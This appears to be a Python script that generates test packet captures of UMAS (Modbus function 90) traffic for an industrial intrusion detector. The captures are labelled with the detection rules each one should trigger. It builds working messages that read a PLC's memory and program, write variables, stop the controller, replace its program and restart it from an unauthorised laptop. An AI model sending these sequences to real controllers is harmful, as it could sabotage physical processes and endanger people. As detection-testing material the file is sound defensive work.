"""UMAS (Modbus function 90): every message a controller is known to answer, and what an attacker does with them."""
import struct

from captures import capture
from cell import SCRIPTED, STRANGER, cell

SESSION = 0x21
CHECKSUM = 0x22446688
FROM_LAPTOP = "ip.src == 192.168.10.66 && modbus.func_code == 90"


def message(code, body=b"", session=0):
    return "raw " + " ".join(f"{b:02X}" for b in bytes([90, session, code]) + body)


def reserve(name):
    return message(0x10, struct.pack("<IB", 0x0E27, len(name)) + name)


def release():
    return message(0x11, session=SESSION)


def read_memory(block, offset, count):
    return message(0x20, struct.pack("<BHIH", 0, block, offset, count))


def variable(base, offset, kind=2):
    return struct.pack("<BHBHB", kind, 0x36, 1, base, offset)


def read_variables(*variables):
    return message(0x22, struct.pack("<IB", CHECKSUM, len(variables)) + b"".join(variables))


def write_variable(where, value, session=SESSION):
    return message(0x23, struct.pack("<IB", CHECKSUM, 1) + where + value, session)


def program_out(parts, session=SESSION):
    return [message(0x33, struct.pack("<HH", 0x0100, 251), session),
            *[message(0x34, struct.pack("<HH", 0x0100, n + 1), session) for n in range(parts)],
            message(0x35, struct.pack("<HH", 0x0100, parts), session)]


def program_in(program, part=96, session=SESSION):
    pieces = [program[i:i + part] for i in range(0, len(program), part)]
    return [message(0x30, b"\0\1", session),
            *[message(0x31, struct.pack("<HHH", 0x0100, n + 1, len(p)) + p, session) for n, p in enumerate(pieces)],
            message(0x32, struct.pack("<HH", 0x0100, len(pieces)), session)]


PROGRAM = bytes((i * i + 7 * i) & 0xFF for i in range(700))
LOOK = [message(2), message(1, b"\0"), message(0x0A, b"\0TTTT"), message(3, b"\0"), message(4)]


@capture("modbus/umas-session.pcap",
         "UMAS at work: ENG-1 looks, reads memory, writes a variable without a reservation (refused), reserves, keeps alive, "
         "reads and writes variables, releases", SCRIPTED, key="modbus.func_code == 90", count=26)
def session(path):
    with cell(path, "eng", server="plain") as net:
        net.station("eng", "unit 0", LOOK, read_memory(0x13, 0, 100), read_memory(0x14, 100, 96),
                    write_variable(variable(512, 8), b"\x5f\0", session=0), reserve(b"ENG-1"),
                    message(0x12, session=SESSION), read_variables(variable(512, 8), variable(512, 12, 3)),
                    write_variable(variable(512, 8), b"\x5f\0"), release())


SIGNATURE = bytes(range(32))
# What the layout of is not known: the code alone.
NAMED_ONLY = (0x05, 0x06, 0x07, 0x24, 0x25, 0x26, 0x27, 0x28, 0x29, 0x2A, 0x36, 0x37, 0x39, 0x42, 0x43, 0x50, 0x51, 0x52,
              0x53, 0x58, 0x60, 0x61, 0x62, 0x63, 0x64, 0x65, 0x66, 0x6C, 0x6D, 0x6E, 0x70, 0x71, 0x72, 0x73, 0x74)


@capture("modbus/umas-named-only.pcap",
         "UMAS: ENG-1 sends, with a reservation, every code of which no more than the name is known, a memory write, and a "
         "variable write inside a signed message", SCRIPTED, key="modbus.func_code == 90", count=78)
def named_only(path):
    with cell(path, "eng", server="plain") as net:
        signed = bytes([1]) + SIGNATURE + bytes([90, SESSION, 0x23]) + struct.pack("<IB", CHECKSUM, 1) + variable(512, 8) + b"\x5f\0"
        net.station("eng", "unit 0", reserve(b"ENG-1"), [message(code, session=SESSION) for code in NAMED_ONLY],
                    message(0x21, struct.pack("<BHIH", 0, 0x14, 16, 2) + b"\xbe\xef", SESSION),
                    message(0x38, signed, SESSION), release())


@capture("modbus/umas-program-read.pcap", "UMAS: the laptop reserves PLC-1 and reads its program out, part by part", SCRIPTED,
         key=FROM_LAPTOP, count=14, fires="NET-001",
         tell=f"{STRANGER} reserved PLC-1 and read its program out in five parts.")
def program_read(path):
    with cell(path, "laptop", server="plain") as net:
        net.station("laptop", "unit 0", LOOK, reserve(b"LAPTOP"), program_out(5), release())


@capture("modbus/umas-download-from-stranger.pcap",
         "UMAS: the laptop reserves PLC-1, stops it, brings a program into it, starts it, releases it", SCRIPTED,
         key=FROM_LAPTOP, count=19, fires="CTL-001, CTL-002, CTL-013, NET-001",
         tell=f"{STRANGER} reserved PLC-1, stopped it, replaced its program with another in eight parts and started it "
              "again. PLC-1 accepted all of it: it runs a strange program now.")
def download(path):
    with cell(path, "laptop", server="plain") as net:
        net.station("laptop", "unit 0", LOOK, reserve(b"LAPTOP"), message(0x41, b"\xff\0", SESSION), "sleep 0.3",
                    program_in(PROGRAM), message(0x40, b"\xff\0", SESSION), release())


@capture("modbus/umas-write-from-stranger.pcap",
         "UMAS: the laptop reads a variable, writes it without a reservation (refused), reserves, writes it, releases",
         SCRIPTED, key=f"{FROM_LAPTOP} && frame contains 23:88:66:44:22", count=2, fires="CTL-013, NET-001",
         tell=f"{STRANGER} wrote a variable of PLC-1 through UMAS: refused at first, accepted after it had reserved PLC-1.")
def write(path):
    with cell(path, "laptop", server="plain") as net:
        net.station("laptop", "unit 0", read_variables(variable(512, 8)),
                    write_variable(variable(512, 8), b"\x5f\0", session=0), reserve(b"LAPTOP"),
                    write_variable(variable(512, 8), b"\x5f\0"), read_variables(variable(512, 8)), release())
